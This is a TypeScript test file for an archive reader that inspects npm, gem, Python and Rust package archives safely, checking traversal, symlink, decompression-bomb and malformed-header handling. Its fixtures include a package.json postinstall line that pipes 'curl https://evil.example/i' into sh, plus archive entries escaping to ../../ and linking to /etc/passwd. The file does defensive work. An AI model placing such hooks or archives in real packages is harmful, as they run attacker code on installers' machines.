import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { ArchiveError, DEFAULT_LIMITS, TarSource as CoreTarSource, ZipSource as CoreZipSource } from '@inert/core';
import { PLUGINS } from '@inert/cli';
import { base256, file, header, negative256, pax, tar, tgz } from '../corpus/adversarial/archives/tar-builder.mjs';

// The archive formats come from the plugins (npm's .tgz, pip's sdist and wheel, cargo's .crate, the .gem):
// these tests read each as the CLI does, with every plugin's formats.
class TarSource extends CoreTarSource {
  constructor(bytes: Uint8Array, name: string, options: { limits?: { maxBytes?: number } } = {}) {
    super(bytes, name, { plugins: PLUGINS, ...options });
  }
}
const ZipSource = { open: (bytes: Uint8Array, name: string) => CoreZipSource.open(bytes, name, { plugins: PLUGINS }) };

// Test setup uses the system tar to build real archives; the engine only reads them.
const work = mkdtempSync(join(tmpdir(), 'inert-tar-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));
const walkOptions = { limits: DEFAULT_LIMITS, skipDirs: new Set(['node_modules']), peek: [] };

function npmTarball(): Buffer {
  const dir = join(work, 'npm');
  mkdirSync(join(dir, 'package', 'lib'), { recursive: true });
  writeFileSync(join(dir, 'package', 'package.json'), '{"name":"x","scripts":{"postinstall":"node lib/i.js"}}');
  writeFileSync(join(dir, 'package', 'lib', 'i.js'), '');
  execFileSync('ln', ['-s', '/etc/passwd', join(dir, 'package', 'lib', 'link')]);
  execFileSync('tar', ['-czf', join(work, 'x.tgz'), '-C', dir, 'package']);
  return readFileSync(join(work, 'x.tgz'));
}

describe('TarSource', () => {
  it('reads an npm tarball in memory, strips package/, reports links', async () => {
    const source = new TarSource(npmTarball(), 'x-1.0.0.tgz');
    const walk = await source.walk(walkOptions);
    expect(walk.files.map((f) => f.path).sort()).toEqual(['lib/i.js', 'package.json']);
    expect(walk.skipped).toMatchObject([{ path: 'lib/link', kind: 'symlink' }]);
    const read = await source.read('package.json', 1024);
    expect(read.ok && Buffer.from(read.bytes).toString()).toContain('postinstall');
  });

  it('opens a .gem: the files come from data.tar.gz', async () => {
    const dir = join(work, 'gem');
    mkdirSync(join(dir, 'data', 'ext'), { recursive: true });
    writeFileSync(join(dir, 'data', 'ext', 'extconf.rb'), 'require "mkmf"');
    execFileSync('tar', ['-czf', join(dir, 'data.tar.gz'), '-C', join(dir, 'data'), 'ext']);
    writeFileSync(join(dir, 'metadata.gz'), gzipSync('--- !ruby/object:Gem::Specification\nname: x\n'));
    execFileSync('tar', ['-cf', join(work, 'x.gem'), '-C', dir, 'metadata.gz', 'data.tar.gz']);
    const walk = await new TarSource(readFileSync(join(work, 'x.gem')), 'x-1.0.0.gem').walk(walkOptions);
    expect(walk.files.map((f) => f.path)).toEqual(['ext/extconf.rb']);
  });

  it('refuses entries that leave the root and caps decompression', async () => {
    const dir = join(work, 'evil');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'a'), 'x');
    execFileSync('tar', ['-cf', join(work, 'evil.tar'), '-C', dir, '--transform', 's,^a$,../../escape,', 'a']);
    const walk = await new TarSource(readFileSync(join(work, 'evil.tar')), 'evil.tar').walk(walkOptions);
    expect(walk.files).toEqual([]);
    expect(walk.skipped[0]).toMatchObject({ kind: 'refused-entry' });
    expect(walk.skipped[0]?.detail).toContain('leaves the package root');
    const bomb = gzipSync(Buffer.alloc(10 * 1024 * 1024));
    expect(() => new TarSource(bomb, 'bomb.tgz', { limits: { maxBytes: 1024 * 1024 } })).toThrow(ArchiveError);
  });
});

const EVIL = '{"name":"x","scripts":{"postinstall":"curl https://evil.example/i | sh"}}';
const text = async (
  source: { read(p: string, n: number): Promise<{ ok: boolean } & ({ ok: true; bytes: Uint8Array } | { ok: false })> },
  path: string,
) => {
  const r = await source.read(path, 1 << 20);
  return r.ok ? Buffer.from(r.bytes).toString() : undefined;
};
const raw = (name: string, content: string, extra: object) =>
  Buffer.concat([header({ name, ...extra }), Buffer.from(content.padEnd(512, '\0'))]);

describe('TarSource reads what npm (node-tar) reads', () => {
  it('honours a pax size that overrides the ustar size field', async () => {
    const source = new TarSource(
      tgz(pax({ size: EVIL.length }), raw('package/package.json', EVIL, { size: 0 })),
      'x.tgz',
    );
    expect(await text(source, 'package.json')).toBe(EVIL);
  });

  it('reads base-256 sizes', async () => {
    const source = new TarSource(tgz(raw('package/package.json', EVIL, { sizeBytes: base256(EVIL.length) })), 'x.tgz');
    expect(await text(source, 'package.json')).toBe(EVIL);
  });

  it('lets the last entry of a path win, in write order, and normalises the path as the filesystem does', async () => {
    const source = new TarSource(
      tgz(
        file('package/package.json', '{"name":"x"}'),
        file('package/lib/a.js', ''),
        file('package//./package.json', EVIL),
      ),
      'x.tgz',
    );
    expect(await text(source, 'package.json')).toBe(EVIL);
    expect(source.entries().map((e) => [e.path, e.index])).toEqual([
      ['lib/a.js', 1],
      ['package.json', 2],
    ]);
  });

  it('strips the first segment whatever its name, renames .gitignore as pacote does, skips links and .. paths', () => {
    const source = new TarSource(
      tgz(
        file('anything/package.json', '{}'),
        file('anything/.gitignore', 'x'),
        file('anything/../../etc/x', 'x'),
        header({ name: 'anything/link', type: '2', linkname: '/etc/passwd' }),
      ),
      'x.tgz',
    );
    expect(source.entries().map((e) => e.path)).toEqual(['package.json', '.npmignore']);
    expect(source.skippedEntries().map((s) => s.kind)).toEqual(['refused', 'symlink']);
  });

  it('a file where a directory of written files is, or under a written file, is not written (the write fails)', () => {
    const source = new TarSource(
      tgz(file('package/a', '1'), file('package/a/b', '2'), file('package/c/d', '3'), file('package/c', '4')),
      'x.tgz',
    );
    expect(source.entries().map((e) => e.path)).toEqual(['a', 'c/d']);
    expect(source.skippedEntries().map((s) => s.path)).toEqual(['package/a/b', 'package/c']);
    expect(source.skippedEntries().map((s) => s.kind)).toEqual(['refused', 'refused']);
  });

  it.each([
    [
      'not gzip, not tar',
      Buffer.from('hello, this is not an archive at all'.repeat(20)),
      /checksum failure|Unrecognized archive format/,
    ],
    ['empty file', Buffer.alloc(0), /empty/],
    ['only end-of-archive blocks', Buffer.alloc(1024), /Unrecognized|no entries/],
    ['truncated gzip', tgz(file('package/package.json', EVIL)).subarray(0, 60), /unexpected end of file/],
    ['truncated tar', tar(file('package/package.json', EVIL)).subarray(0, 700), /Truncated input/],
    ['bad header checksum', tgz(raw('package/package.json', EVIL, { size: EVIL.length, checksum: false })), /checksum/],
    [
      'negative base-256 size',
      tgz(raw('package/package.json', EVIL, { sizeBytes: negative256(5) })),
      /TAR_ENTRY_INVALID/,
    ],
    ['decompression bomb', tgz(file('package/a', Buffer.alloc(50 * 1024 * 1024))), /decompression ratio/],
    [
      'zstd magic with a body no decoder accepts',
      Buffer.concat([Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), Buffer.alloc(600, 1)]),
      /ZstdDecompress|zstd|Unknown frame|TAR_ABORT/i,
    ],
  ])('%s is an error naming the archive, never an empty scan', (_name, bytes, reason) => {
    expect(() => new TarSource(bytes, 'evil-1.0.0.tgz')).toThrow(ArchiveError);
    expect(() => new TarSource(bytes, 'evil-1.0.0.tgz')).toThrow(/evil-1\.0\.0\.tgz/);
    expect(() => new TarSource(bytes, 'evil-1.0.0.tgz')).toThrow(reason);
  });

  it('sdists strip a leading directory only when every member shares it; crates strip <name>-<version>/', () => {
    const shared = new TarSource(tgz(file('x-1.0/setup.py', 'a'), file('x-1.0/PKG-INFO', 'b')), 'x-1.0.tar.gz');
    expect([shared.kind, shared.entries().map((e) => e.path)]).toEqual(['sdist', ['setup.py', 'PKG-INFO']]);
    const mixed = new TarSource(tgz(file('x-1.0/setup.py', 'a'), file('other/PKG-INFO', 'b')), 'x-1.0.tar.gz');
    expect(mixed.entries().map((e) => e.path)).toEqual(['x-1.0/setup.py', 'other/PKG-INFO']);
    const crate = new TarSource(
      tgz(file('c-0.1.0/build.rs', 'fn main(){}'), file('c-0.1.0/Cargo.toml', '[package]')),
      'c-0.1.0.crate',
    );
    expect([crate.kind, crate.entries().map((e) => e.path)]).toEqual(['crate', ['build.rs', 'Cargo.toml']]);
  });

  it('a .gem with two data.tar.gz, or none, is an error', () => {
    const data = tgz(file('lib/x.rb', ''));
    expect(
      () =>
        new TarSource(
          tar(file('metadata.gz', gzipSync('---')), file('data.tar.gz', data), file('data.tar.gz', data)),
          'x.gem',
        ),
    ).toThrow(/appears 2 times/);
    expect(() => new TarSource(tar(file('metadata.gz', gzipSync('---'))), 'x.gem')).toThrow(/no data.tar.gz/);
  });
});

describe('ZipSource (wheels)', () => {
  it("reads a wheel with pip's names, the last entry of a name winning", async () => {
    const dir = join(work, 'whl');
    mkdirSync(join(dir, 'pkg'), { recursive: true });
    writeFileSync(join(dir, 'pkg', '__init__.py'), 'import os');
    execFileSync('zip', ['-q', '-r', join(work, 'x.whl'), 'pkg'], { cwd: dir });
    const source = await ZipSource.open(readFileSync(join(work, 'x.whl')), 'x-1.0-py3-none-any.whl');
    expect(source.entries().map((e) => e.path)).toEqual(['pkg/__init__.py']);
    expect(await text(source, 'pkg/__init__.py')).toBe('import os');
  });

  it.each([
    ['not a zip', Buffer.from('PK not really')],
    ['empty', Buffer.alloc(0)],
  ])('%s is an error naming the wheel', async (_name, bytes) => {
    await expect(ZipSource.open(bytes, 'evil.whl')).rejects.toThrow(/evil\.whl/);
  });
});
